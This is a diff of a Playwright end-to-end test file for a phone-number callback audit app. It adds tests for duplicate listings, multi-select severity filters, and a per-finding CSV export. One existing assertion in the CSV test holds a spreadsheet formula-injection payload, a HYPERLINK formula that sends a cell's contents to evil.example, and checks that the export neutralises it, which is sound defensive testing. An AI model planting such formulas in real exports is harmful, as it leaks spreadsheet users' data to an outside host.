@@ -1,4 +1,4 @@
-import { expect, test } from './fixtures'
+import { expect, simUrl, test } from './fixtures'
 import { downloadText, indexNumber, NUMBERS, parseCsv, rowTexts } from './helpers'
 import { startProxy, startSimulator } from './stack'
 import { LARGE_CREDENTIALS } from '../proxy/simulator/dataset'
@@ -89,6 +89,33 @@ test.describe('owned numbers', () => {
     expect(await auditOf('18004840451')).toContain('Worth a look: webhook: Outlier')
   })
 
+  test('a number the listing carries twice, under two tids, is a finding on both rows that names both tids', async ({ page }) => {
+    const res = await fetch(`${simUrl()}/__sim/quirks`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ listedTwice: [NUMBERS.big.number] }),
+    })
+    expect(res.ok).toBe(true)
+    await page.setViewportSize({ width: 1400, height: 900 })
+    await page.goto(`/?q=${NUMBERS.big.number}`)
+    const rows = page.getByRole('table', table(/Owned numbers/)).locator('tbody tr[aria-rowindex]')
+    await expect(rows).toHaveCount(2)
+    const tids = await rows.locator('[data-col="tid"]').allTextContents()
+    expect(tids).toContain(NUMBERS.big.tid)
+    const [a, b] = tids as [string, string]
+    for (const cell of await rows.locator('[data-col="audit"]').all()) {
+      await expect(cell).toHaveText(`Worth a look: number: Listed twice, with tids ${a} and ${b}`)
+      await expect(cell).not.toHaveText(/No findings/)
+    }
+    await page.screenshot({ path: '/tmp/numbers-listed-twice-1400.png' })
+    // Both chips pressed at once, on a phone: cards carry the same finding.
+    await page.setViewportSize({ width: 390, height: 844 })
+    await page.goto(`/?severity=problem,look`)
+    await expect(page.getByRole('button', { name: /^Worth a look · \d+$/ })).toHaveAttribute('aria-pressed', 'true')
+    await expect(page.getByRole('button', { name: /^Any problem · \d+$/ })).toHaveAttribute('aria-pressed', 'true')
+    await page.screenshot({ path: '/tmp/numbers-multi-390.png' })
+  })
+
   test('the audit summary counts findings, lists endpoints, and filters by finding', async ({ page }) => {
     await page.goto('/')
     const summary = page.getByRole('region', { name: 'Callback audit' })
@@ -106,31 +133,55 @@ test.describe('owned numbers', () => {
     for (const a of audits) expect(a).toContain('dlr: Missing')
   })
 
-  test('Any problem, Worth a look and No findings filter whole classes of numbers', async ({ page }) => {
+  test('Any problem, Worth a look and No findings filter whole classes of numbers, several at once, by keyboard', async ({ page }) => {
     await page.goto('/')
     const summary = page.getByRole('region', { name: 'Callback audit' })
     await expect(summary.getByRole('status')).toHaveText('Checked 60 numbers.')
     const problem = summary.getByRole('button', { name: /^Any problem · \d+$/ })
-    const total = Number((await problem.textContent())!.replace(/\D/g, ''))
+    const clean = summary.getByRole('button', { name: /^No findings · \d+$/ })
+    const look = summary.getByRole('button', { name: /^Worth a look · \d+$/ })
+    const countOf = async (chip: typeof problem) => Number((await chip.textContent())!.replace(/\D/g, ''))
+    const total = await countOf(problem)
+    const cleanTotal = await countOf(clean)
     expect(total).toBeGreaterThan(0)
     await problem.click()
     await expect(problem).toHaveAttribute('aria-pressed', 'true')
-    await expect(page).toHaveURL(/audit=problem/)
+    await expect(page).toHaveURL(/severity=problem(&|$)/)
     await expect(page.getByRole('status').filter({ hasText: new RegExp(`^${total} numbers? of 60$`) })).toBeVisible()
     for (const a of await rowTexts(page, /Owned numbers/, 6)) expect(a).toContain('Problem:')
 
-    const clean = summary.getByRole('button', { name: /^No findings · \d+$/ })
-    await clean.click()
-    await expect(page).toHaveURL(/audit=none/)
+    // A second chip, pressed from the keyboard, adds its numbers: both stay pressed.
+    await clean.focus()
+    await page.keyboard.press('Space')
+    await expect(clean).toHaveAttribute('aria-pressed', 'true')
+    await expect(problem).toHaveAttribute('aria-pressed', 'true')
+    await expect(page).toHaveURL(/severity=problem,none(&|$)/)
+    await expect(page.getByRole('status').filter({ hasText: new RegExp(`^${total + cleanTotal} numbers of 60$`) })).toBeVisible()
+    for (const a of await rowTexts(page, /Owned numbers/, 6)) expect(a === 'No findings' || a.includes('Problem:')).toBe(true)
+    // The shared link holds both.
+    await page.reload()
+    await expect(summary.getByRole('button', { name: /^No findings · \d+$/ })).toHaveAttribute('aria-pressed', 'true')
+    await expect(page.getByRole('status').filter({ hasText: new RegExp(`^${total + cleanTotal} numbers of 60$`) })).toBeVisible()
+
+    // Releasing one leaves the other.
+    await problem.click()
+    await expect(problem).toHaveAttribute('aria-pressed', 'false')
+    await expect(page).toHaveURL(/severity=none/)
     const cleanTexts = await rowTexts(page, /Owned numbers/, 6)
     expect(cleanTexts.length).toBeGreaterThan(0)
     for (const a of cleanTexts) expect(a).toBe('No findings')
+    await clean.click()
 
-    await summary.getByRole('button', { name: /^Worth a look · \d+$/ }).click()
-    await expect(page).toHaveURL(/audit=look/)
+    await look.click()
+    await expect(page).toHaveURL(/severity=look/)
     for (const a of await rowTexts(page, /Owned numbers/, 6)) expect(a).toContain('Worth a look:')
     await summary.getByRole('button', { name: 'Clear audit filter' }).click()
     await expect(page.getByRole('status').filter({ hasText: /^60 numbers$/ })).toBeVisible()
+    await expect(page).not.toHaveURL(/severity=/)
+    // A link from before the chips were multi-select still works.
+    await page.goto('/?audit=problem')
+    await expect(summary.getByRole('button', { name: /^Any problem · \d+$/ })).toHaveAttribute('aria-pressed', 'true')
+    await expect(page.getByRole('status').filter({ hasText: new RegExp(`^${total} numbers? of 60$`) })).toBeVisible()
   })
 
   test('nothing moves when the rows and the audit arrive (layout shift)', async ({ page, sim }) => {
@@ -168,8 +219,24 @@ test.describe('owned numbers', () => {
     const { name, text } = await downloadText(page, () => page.getByRole('button', { name: 'Export CSV' }).click())
     expect(name).toMatch(/^switchboard-numbers-all-webhook-invalid-url-\d{4}-\d{2}-\d{2}\.csv$/)
     const rows = parseCsv(text)
-    expect(rows[0]).toEqual(['Number', 'Type', 'Country', 'Webhook', 'DLR', 'Audit', 'Messages', 'Last activity (UTC)'])
+    // The audit is one cell per kind of finding (docs/architecture.md, Tables), each headed by its kind.
+    const kinds = [
+      'webhook: Missing',
+      'webhook: Invalid URL',
+      'webhook: Not HTTPS',
+      'webhook: Private host',
+      'webhook: Outlier',
+      'dlr: Missing',
+      'dlr: Invalid URL',
+      'dlr: Not HTTPS',
+      'dlr: Private host',
+      'dlr: Same as webhook',
+      'dlr: Outlier',
+      'number: Listed twice',
+    ].map((k) => `Audit: ${k}`)
+    expect(rows[0]).toEqual(['Number', 'Type', 'Country', 'Webhook', 'DLR', ...kinds, 'Messages', 'Last activity (UTC)'])
     expect(rows.slice(1).map((r) => r[0])).toEqual(onScreen)
+    for (const r of rows.slice(1)) expect(r[rows[0]!.indexOf('Audit: webhook: Invalid URL')]).toBe('Problem')
     const formula = rows.find((r) => r[3]?.includes('HYPERLINK'))
     expect(formula?.[3]).toBe('\'=HYPERLINK("https://evil.example/?x="&A1,"Click")')
     expect(text.startsWith('\uFEFF')).toBe(true)
